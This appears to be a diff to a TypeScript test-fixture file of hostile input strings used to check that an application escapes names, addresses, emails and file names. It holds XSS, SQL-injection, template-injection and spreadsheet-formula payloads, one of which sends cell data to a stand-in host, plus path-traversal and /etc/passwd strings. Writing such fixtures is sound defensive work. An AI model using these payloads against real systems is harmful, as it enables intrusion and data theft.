@@ -3,33 +3,41 @@
  * characters are escaped, so that this file reads the same everywhere.
  */
 
+import { canaryScript } from '../media/canary'
+
 type Strings = readonly [string, ...string[]]
 
 const times = (count: number, text: string): string => text.repeat(count)
 
+/** Says so where it runs; `alert` would too, but holds the page. */
+const run = canaryScript('text')
+
 /** Thirty combining marks on every letter: taller than any row. */
 const stacked = (text: string): string =>
-  [...text].map((letter) => letter + times(10, '\u0300\u0316\u0489')).join('')
+  text
+    .split('')
+    .map((letter) => letter + times(10, '\u0300\u0316\u0489'))
+    .join('')
 
 /** For names, headlines, messages: whatever is shown as text. */
 export const naughtyTexts: Strings = [
-  '<script>alert("sightline")</script>',
-  '"><img src=x onerror=alert(1)>',
+  `<script>${run}</script>`,
+  `"><img src=x onerror="${run}">`,
   '<svg/onload=alert(1)>',
   '<iframe srcdoc="<script>parent.alert(1)</script>">',
   '<a href="javascript:alert(1)">open</a>',
   '<style>body{display:none}</style>',
-  '</title></textarea></script><script>alert(1)</script>',
+  `</title></textarea></script><script>${run}</script>`,
   '<!--><img src=x onerror=alert(1)-->',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<base href="https://canary.invalid/">',
+  '<meta http-equiv="refresh" content="0;url=https://canary.invalid/">',
   "'; DROP TABLE leads; --",
   '{{constructor.constructor("alert(1)")()}}',
   '${alert(1)} #{alert(1)} <%= 7 * 7 %>',
   '{name} {count, plural, one {#} other {#}} %s %d %n',
   'javascript:alert(1)',
-  '=HYPERLINK("https://evil.example/?"&A1,"click")',
-  '+1+cmd|\' /C calc\'!A0',
+  '=HYPERLINK("https://canary.invalid/?"&A1,"click")',
+  "+1+cmd|' /C calc'!A0",
   '-2+3',
   '@SUM(1+1)',
   '\t=1+1',
@@ -76,41 +84,26 @@ export const longText = `Long ${times(12_500, 'wide <b> ')}end`
 
 /** For places that an application would make a link, a picture or a player of. */
 export const naughtyAddresses: Strings = [
-  'javascript:alert(document.domain)',
+  `javascript:${run}`,
   'JaVaScRiPt:alert(1)',
   '\u0001javascript:alert(1)',
   'java\tscript:alert(1)',
-  'data:text/html,<script>alert(1)</script>',
+  `data:text/html,<script>${run}</script>`,
   'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
   'vbscript:msgbox(1)',
-  'blob:https://evil.example/0',
+  'blob:https://canary.invalid/0',
   'file:///etc/passwd',
-  '//evil.example/picture.png',
-  '/\\evil.example',
-  'https://accounts.example@evil.example/',
-  'https://evil.example\u202E/moc.elpmaxe.stnuocca//:sptth',
+  '//canary.invalid/picture.png',
+  '/\\canary.invalid',
+  'https://accounts.example@canary.invalid/',
+  'https://canary.invalid\u202E/moc.elpmaxe.stnuocca//:sptth',
   'https://xn--80ak6aa92e.example/',
   'http://127.0.0.1:1/v1/me',
-  'https://evil.example/"onmouseover="alert(1)',
-  'https:evil.example',
+  'https://canary.invalid/"onmouseover="alert(1)',
+  'https:canary.invalid',
   'https://',
   'not an address',
   '',
-]
-
-export const naughtyFileNames: Strings = [
-  'invoice\u202Efdp.exe',
-  '../../../.ssh/authorized_keys',
-  '..\\..\\autoexec.bat',
-  'CON',
-  'report.pdf\u0000.html',
-  'a"; filename="b.html',
-  'line\r\nbreak.txt',
-  '<img src=x onerror=alert(1)>.png',
-  `${times(300, 'long')}.pdf`,
-  '.htaccess',
-  '',
-  'photo.jpg   .scr',
 ]
 
 export const naughtyMediaTypes: Strings = [
@@ -137,7 +130,13 @@ export const naughtyStates: Strings = [
   'ACTIVE ',
 ]
 
-export const naughtyZones: Strings = ['Mars/Olympus_Mons', 'constructor', '', '<b>UTC</b>', 'Europe/Paris\u0000']
+export const naughtyZones: Strings = [
+  'Mars/Olympus_Mons',
+  'constructor',
+  '',
+  '<b>UTC</b>',
+  'Europe/Paris\u0000',
+]
 
 export const naughtySizes: Strings = ['-1', '1e999', 'NaN', '99999999999999999999', '<b>1</b>', '0x10', '']
 
@@ -145,7 +144,7 @@ export const naughtySizes: Strings = ['-1', '1e999', 'NaN', '9999999999999999999
 export const naughtyEmails: Strings = [
   "o'neill+--@xn--80ak6aa92e.example",
   `${times(60, 'a')}@${times(20, 'sub.')}example`,
-  "'or'1'-'1@evil.example",
+  "'or'1'-'1@canary.invalid",
 ]
 
 /** Two characters each, as the contract asks for. */
